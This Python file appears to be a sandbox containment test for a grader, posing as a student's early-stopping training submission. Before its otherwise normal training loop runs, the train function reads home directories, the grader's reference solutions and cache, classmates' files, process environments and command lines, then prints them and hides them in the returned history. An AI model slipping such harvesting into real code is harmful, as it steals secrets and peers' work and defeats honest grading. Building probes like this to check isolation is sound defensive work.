# expect-runtime: ok
# exercise: early_stopping
# Reads what a job must never see and prints it (and hides it in the history):
# ~/.ssh, HOME, the reference solutions' source, the reference cache, classmates' files next to
# its own, the grader's environment and command line. Contained when none of it appears in the
# output or the result.
import copy
import glob
import os
import sys

import torch


def _peek(path):
    try:
        if os.path.isfile(path):
            with open(path, "rb") as f:
                return f"{path}: " + f.read(4000).decode("utf-8", "replace")
    except OSError:
        pass
    return ""


def _fit(model, train_loader, val_loader, loss_fn, optimizer, epochs, device, patience):
    history = {"train_loss": [], "val_loss": [], "best_epoch": 0}
    best_val, best_state, bad_epochs = float("inf"), None, 0
    for epoch in range(1, epochs + 1):
        model.train()
        running = 0.0
        for xb, yb in train_loader:
            xb, yb = xb.to(device), yb.to(device)
            optimizer.zero_grad()
            loss = loss_fn(model(xb), yb)
            loss.backward()
            optimizer.step()
            running += loss.item() * xb.size(0)
        model.eval()
        val_running = 0.0
        with torch.no_grad():
            for xb, yb in val_loader:
                xb, yb = xb.to(device), yb.to(device)
                val_running += loss_fn(model(xb), yb).item() * xb.size(0)
        history["train_loss"].append(running / len(train_loader.dataset))
        history["val_loss"].append(val_running / len(val_loader.dataset))
        if history["val_loss"][-1] < best_val:
            best_val, history["best_epoch"], bad_epochs = history["val_loss"][-1], epoch, 0
            best_state = copy.deepcopy(model.state_dict())
        else:
            bad_epochs += 1
            if bad_epochs >= patience:
                break
    model.load_state_dict(best_state)
    return history


def train(model, train_loader, val_loader, loss_fn, optimizer, epochs, device="cpu", patience=5):
    found = []
    homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", "/home"}
    for home in homes:
        for path in glob.glob(os.path.join(home, "**", "*"), recursive=True)[:200]:
            found.append(_peek(path))
    try:
        import grader
        root = os.path.dirname(os.path.dirname(grader.__file__))
        for path in glob.glob(os.path.join(root, "reference", "*.py")):
            found.append(_peek(path))
    except Exception as exc:
        found.append(f"grader: {exc}")
    for cache in (os.environ.get("LOOPGRADER_CACHE", ""), os.path.expanduser("~/.cache/loopgrader")):
        for path in glob.glob(os.path.join(cache, "**", "*.json"), recursive=True)[:20]:
            found.append(_peek(path))
    mine = os.path.abspath(globals().get("__file__", "."))
    for path in glob.glob(os.path.join(os.path.dirname(os.path.dirname(mine)), "**", "*"), recursive=True)[:200]:
        found.append(_peek(path))
    for pid in (os.getppid(), 1):
        for what in ("environ", "cmdline"):
            found.append(_peek(f"/proc/{pid}/{what}"))
    found.append(repr(dict(os.environ)))
    leak = "\n".join(f for f in found if f)
    print("LEAK-BEGIN\n" + leak + "\nLEAK-END")
    history = _fit(model, train_loader, val_loader, loss_fn, optimizer, epochs, device, patience)
    history["leak"] = leak[:100000]
    return history
